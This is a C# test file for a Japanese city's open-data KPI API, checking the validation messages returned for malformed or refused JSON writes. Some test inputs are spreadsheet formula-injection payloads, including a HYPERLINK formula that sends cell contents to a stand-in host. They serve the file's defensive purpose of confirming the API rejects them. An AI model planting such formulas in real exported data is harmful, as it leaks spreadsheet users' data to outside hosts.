using System.Net;
using System.Text.Json;

namespace Kushiro.OpenData.Api.Tests.Kpis;

/// <summary>
/// A refused write says what the field must be, in the API's words: not the framework's, which name C# properties and
/// attributes ("The Provenance field does not equal any of the values specified in AllowedValuesAttribute").
/// </summary>
public sealed class KpiInputMessageTests(WritableApiFactory api) : IClassFixture<WritableApiFactory>
{
    [Theory]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t"},"provenance":"x"}""", "provenance", "Is official or editorial.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"up"}""", "direction", "Is increase, decrease or maintain.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":""},"provenance":"editorial"}""", "source.title", "Is required and may not be empty or only white space.")]
    [InlineData("", """{"name":"   ","definition":"y","unit":"人","direction":"increase"}""", "name", "Is required and may not be empty or only white space.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":""},"provenance":"editorial"}""", "source.page", "Must be 1 to 100 characters long.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"increase","statistics":{"name":"国勢調査","governmentStatisticsCode":"1"}}""", "statistics.governmentStatisticsCode", "Is the statistic's 8-digit code in e-Stat (政府統計コード), e.g. 00200521.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":"=1+1"},"provenance":"editorial"}""", "source.page", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("", """{"name":"=HYPERLINK(\"http://example.org/?\"&A1,\"click\")","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"@SUM(1+1)","direction":"increase"}""", "unit", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("/observations/FY2020", """{"value":1,"note":"＝HYPERLINK(\"http://example.org\")","source":{"title":"t"},"provenance":"editorial"}""", "note", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"﹦1+1"},"provenance":"editorial"}""", "source.title", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("", """{"name":"＠SUM(1)","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start with =, +, - or @ (full-width ＝＋－＠ too): a spreadsheet opening the CSV would run it as a formula.")]
    [InlineData("/observations/FY2020", """{"value":1,"note":"一行目\n二行目","source":{"title":"t"},"provenance":"editorial"}""", "note", "Must not contain control characters, line breaks and tabs included: each text is one line.")]
    [InlineData("", """{"name":"x ","definition":"y","unit":"人","direction":"increase"}""", "name", "Must not start or end with white space or an invisible character.")]
    // An empty URL is not a URL: one message says so, not a second that it is too short.
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","url":""},"provenance":"editorial"}""", "source.url", "Must be an absolute http(s) URL.")]
    // README's write example has … placeholders: mending only the refused URL published "…" as an official source.
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"…","url":"https://www.city.kushiro.lg.jp/"},"provenance":"official"}""", "source.title", "Is a placeholder (…): give the real text.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t","page":"..."},"provenance":"editorial"}""", "source.page", "Is a placeholder (…): give the real text.")]
    [InlineData("", """{"name":"・・・","definition":"y","unit":"人","direction":"increase"}""", "name", "Is a placeholder (…): give the real text.")]
    // As a Japanese input method types them.
    [InlineData("/targets/FY2024", """{"value":1,"source":{"title":"．．．","url":"https://www.city.kushiro.lg.jp/"},"provenance":"official"}""", "source.title", "Is a placeholder (…): give the real text.")]
    [InlineData("", """{"name":"x","definition":"。。。","unit":"人","direction":"increase"}""", "definition", "Is a placeholder (…): give the real text.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"…\uFE0E","direction":"increase"}""", "unit", "Is a placeholder (…): give the real text.")]
    // What the JSON reader and MVC say about the body as a whole, in the API's words (they spoke of "configured depth"
    // and "JSON tokens", and told a body of `null` that it was empty).
    [InlineData("", "null", "body", "Is required: send a JSON object (the body was empty or null).")]
    [InlineData("/observations/FY2020", " \n  ", "body", "Is only white space: send a JSON object (line 2, byte 3 of that line).")]
    [InlineData("", """{"name":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}""", "name", "Is nested more than 32 levels deep; no field of this body takes that (line 1, byte 40 of that line).")]
    // The reader's "not supported in this mode. Change the reader options.": a client cannot change the server's.
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t"},"provenance":"editorial",}""", "body", "Has a comma after its last member or item, which JSON does not allow (line 1, byte 60 of that line).")]
    // A body cut short is the body's fault, not the field the reader was in when the data ran out (a civic review: a
    // form would have marked the ID field of an upload that stopped after it).
    [InlineData("", """{"name":""", "body", "Ends with an object or array left open: the JSON is cut short (line 1, byte 9 of that line).")]
    [InlineData("/observations/FY2020", """{"value":1,"note":"ab""", "body", "Ends inside a string: the JSON is cut short (line 1, byte 22 of that line).")]
    [InlineData("/observations/FY2020", """{"value":1,""", "body", "Ends where more should follow: the JSON is cut short (line 1, byte 11 of that line).")]
    [InlineData("/observations/FY2020", """{"value":1.""", "body", "Ends where more should follow: the JSON is cut short (line 1, byte 12 of that line).")]
    // After a digit or inside true, false or null: the reader's words had been about a bad number or literal, keyed
    // by the field (a civic review).
    [InlineData("/observations/FY2020", """{"value":12""", "body", "Ends inside a number, true, false or null: the JSON is cut short (line 1, byte 12 of that line).")]
    [InlineData("", """{"name":"x","goalId":nu""", "body", "Ends inside a number, true, false or null: the JSON is cut short (line 1, byte 24 of that line).")]
    [InlineData("/observations/FY2020", """{"value":1,"note":fals""", "body", "Ends inside a number, true, false or null: the JSON is cut short (line 1, byte 23 of that line).")]
    // With a line break after it, as a file saved by an editor ends (a code review: the reader quotes it too).
    [InlineData("/observations/FY2020", "{\"value\":1,\"note\":nul \t\r\n", "body", "Ends inside a number, true, false or null: the JSON is cut short (line 1, byte 22 of that line).")]
    // Not cut short: a wrong character after a number, or a literal with more after it, stays the field's.
    [InlineData("/observations/FY2020", """{"value":1x}""", "value", "'x' is an invalid end of a number. Expected a delimiter (line 1, byte 11 of that line).")]
    [InlineData("", """{"name":"x","goalId":nul}""", "goalId", "Is not a JSON value: a text goes in double quotes, and true, false and null are the only words without them (line 1, byte 25 of that line).")]
    // A value of another JSON type is told what the field must be, where it had been "the wrong type for this field
    // (see the OpenAPI document)" (an app developer's review).
    [InlineData("", """{"name":"x","goalId":1,"definition":"y","unit":"人","direction":"increase"}""", "goalId", "Must be a string (text in double quotes).")]
    [InlineData("/observations/FY2020", """{"value":"5","source":{"title":"t"},"provenance":"editorial"}""", "value", "Must be a number.")]
    [InlineData("/observations/FY2020", """{"value":5,"source":"釧路市 水産統計","provenance":"editorial"}""", "source", "Must be an object with the fields title, url, page.")]
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"increase","statistics":{"name":"国勢調査","governmentStatisticsCode":200521}}""", "statistics.governmentStatisticsCode", "Must be a string (text in double quotes).")]
    [InlineData("/observations/FY2020", """[{"value":5}]""", "body", "Must be an object with the fields value, note, source, provenance.")]
    // More digits than a decimal holds: the rule a figure's value is held to, as when a decimal could hold it.
    [InlineData("/observations/FY2020", """{"value":0.99999999999999999999999999999999,"source":{"title":"t"},"provenance":"editorial"}""", "value", "Must have at most 20 digits before the decimal point and 8 after it.")]
    // The reader quoted a bad literal with the rest of the body, up to 64 KB of it, and expected 'true' of a text
    // whose quotes were forgotten.
    [InlineData("/observations/FY2020", """{"value":1,"note":tx,"source":{"title":"釧路市 水産統計"},"provenance":"editorial"}""", "note", "Is not a JSON value: a text goes in double quotes, and true, false and null are the only words without them (line 1, byte 20 of that line).")]
    // A word that begins with another letter than t, f or n: "an invalid start of a value".
    [InlineData("/observations/FY2020", """{"value":1,"note":abc,"source":{"title":"t"},"provenance":"editorial"}""", "note", "Is not a JSON value: a text goes in double quotes, and true, false and null are the only words without them (line 1, byte 19 of that line).")]
    // The reader quotes the rest of the body after a bad literal: text the client wrote there that reads like the
    // reader's sentence for a wrong type had listed an internal class's properties, or failed with a 500 (a code review).
    [InlineData("/observations/FY2020", """{"value":1,"note":tx,"source":{"title":"The JSON value could not be converted to Kushiro.OpenData.Api.Data.OpenDataContext. Path: $"},"provenance":"editorial"}""", "note", "Is not a JSON value: a text goes in double quotes, and true, false and null are the only words without them (line 1, byte 20 of that line).")]
    [InlineData("/observations/FY2020", """{"value":1,"note":tx,"source":{"title":"could not be converted to System.Nullable`1[. Path: x"},"provenance":"editorial"}""", "note", "Is not a JSON value: a text goes in double quotes, and true, false and null are the only words without them (line 1, byte 20 of that line).")]
    // The reader spoke of a sign character where there is none.
    [InlineData("/observations/FY2020", """{"value":1e,"source":{"title":"t"},"provenance":"editorial"}""", "value", "Is not a JSON number: digits, then an optional fraction (.5) and exponent (e3), each with digits (line 1, byte 12 of that line).")]
    [InlineData("/observations/FY2020", """{"value":-.5,"source":{"title":"t"},"provenance":"editorial"}""", "value", "Is not a JSON number: digits, then an optional fraction (.5) and exponent (e3), each with digits (line 1, byte 11 of that line).")]
    // A name that only says the reader's words is a name (a code review: it had been taken for a body cut short).
    [InlineData("", """{"name":"x","definition":"y","unit":"人","direction":"increase","reached end of data":1}""", "reached end of data", "Unknown field: not part of this request's body.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t"},/* c */"provenance":"editorial"}""", "body", "'/' is an invalid start of a property name. Expected a '\"' (line 1, byte 35 of that line).")]
    // Valid JSON, but half a character (a lone surrogate) is no text: it was "the wrong type for this field".
    [InlineData("/observations/FY2020", """{"value":1,"note":"\udc00","source":{"title":"t"},"provenance":"editorial"}""", "note",
        "Holds a \\u escape of half a character (a lone surrogate), which is not text: write the character itself, or both halves of its pair.")]
    [InlineData("/observations/FY2020", """{"value":1,"NOTE":"\udc00","source":{"title":"t"},"provenance":"editorial"}""", "NOTE",
        "Holds a \\u escape of half a character (a lone surrogate), which is not text: write the character itself, or both halves of its pair.")]
    [InlineData("/observations/FY2020", """{"value":1,"source":{"title":"t\ud800"},"provenance":"editorial"}""", "source.title",
        "Holds a \\u escape of half a character (a lone surrogate), which is not text: write the character itself, or both halves of its pair.")]
    public async Task ARefusedFieldIsToldWhatItMustBe(string under, string body, string field, string message)
    {
        var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
        await staff.PostJsonAsync("/api/v1/kpis", StaffClient.NewKpi("messages"));
        var response = await staff.PutAsync("/api/v1/kpis/messages" + under, new StringContent(body, System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var errors = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors");
        Assert.Equal([message], errors.GetProperty(field).EnumerateArray().Select(m => m.GetString()));
    }

    // Only a text that is nothing but dots is a placeholder: dots and bullets among words are text.
    [Theory]
    [InlineData("速報値。確定値は…後日公表")]
    [InlineData("・市勢要覧")]
    [InlineData("1.5")]
    [InlineData("p. 12")]
    public async Task TextsThatHoldDotsAmongWordsAreTaken(string note)
    {
        var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
        await staff.PostJsonAsync("/api/v1/kpis", StaffClient.NewKpi("dots"));
        var body = System.Text.Json.JsonSerializer.Serialize(new { value = 1, note, source = new { title = note }, provenance = "editorial" });
        var response = await staff.PutAsync("/api/v1/kpis/dots/observations/FY2020", new StringContent(body, System.Text.Encoding.UTF8, "application/json"));
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
    }

    [Theory]
    [InlineData("shift_jis")]
    [InlineData("euc-jp")]
    public async Task ABodyNotInUtf8IsToldSoNotThatAFieldHasTheWrongType(string encoding)
    {
        // What Japanese Windows tools often send. The note is a string, so "wrong type" sent staff looking at the wrong thing.
        System.Text.Encoding.RegisterProvider(System.Text.CodePagesEncodingProvider.Instance);
        var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
        await staff.PostJsonAsync("/api/v1/kpis", StaffClient.NewKpi("encodings"));
        var body = System.Text.Encoding.GetEncoding(encoding).GetBytes("""{"value":1,"note":"速報値。","source":{"title":"釧路市 水産統計"},"provenance":"editorial"}""");
        var response = await staff.PutAsync("/api/v1/kpis/encodings/observations/FY2020",
            new ByteArrayContent(body) { Headers = { ContentType = new("application/json") } });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var errors = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors");
        var message = Assert.Single(errors.EnumerateObject()) is { Name: "body" } only ? Assert.Single(only.Value.EnumerateArray()).GetString()! : "";
        var at = System.Text.RegularExpressions.Regex.Match(message, @"^Is not UTF-8 text \(byte ([0-9]+) is not\): send the body as JSON in UTF-8\.$");
        Assert.True(at.Success, message);
        // The byte named is where the body stops being UTF-8: everything before it decodes strictly.
        var named = int.Parse(at.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture);
        var strict = new System.Text.UTF8Encoding(false, throwOnInvalidBytes: true);
        strict.GetString(body, 0, named - 1);
        Assert.ThrowsAny<System.Text.DecoderFallbackException>(() => strict.GetString(body, 0, Math.Min(body.Length, named + 3)));
        var kpi = JsonDocument.Parse(await staff.GetStringAsync("/api/v1/kpis/encodings")).RootElement;
        Assert.Equal(0, kpi.GetProperty("observationCount").GetInt32());
    }

    // A body cut in the middle of a character is UTF-8 as far as it goes: "send UTF-8" sent its sender to check the
    // encoding of a file that was fine.
    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    public async Task ABodyCutInsideACharacterIsToldItIsCutShort(int bytesOfTheLastCharacter)
    {
        var staff = api.WithKey(await StaffClient.CreateKeyWithCommandAsync(api));
        await staff.PostJsonAsync("/api/v1/kpis", StaffClient.NewKpi("cut-character"));
        var whole = """{"value":1,"note":"速報値","source":{"title":"t"},"provenance":"editorial"}"""u8.ToArray();
        var cut = whole.AsSpan(0, whole.AsSpan().IndexOf("値"u8) + bytesOfTheLastCharacter).ToArray();
        var response = await staff.PutAsync("/api/v1/kpis/cut-character/observations/FY2020",
            new ByteArrayContent(cut) { Headers = { ContentType = new("application/json") } });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var errors = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors");
        var message = Assert.Single(errors.EnumerateObject()) is { Name: "body" } only ? Assert.Single(only.Value.EnumerateArray()).GetString()! : "";
        // The byte named is where the unfinished character begins, counted from 1.
        Assert.Equal($"Ends inside a character (byte {cut.Length - bytesOfTheLastCharacter + 1} begins one that does not finish): the body is cut short. Send all of it.", message);
        var kpi = JsonDocument.Parse(await staff.GetStringAsync("/api/v1/kpis/cut-character")).RootElement;
        Assert.Equal(0, kpi.GetProperty("observationCount").GetInt32());
    }
}
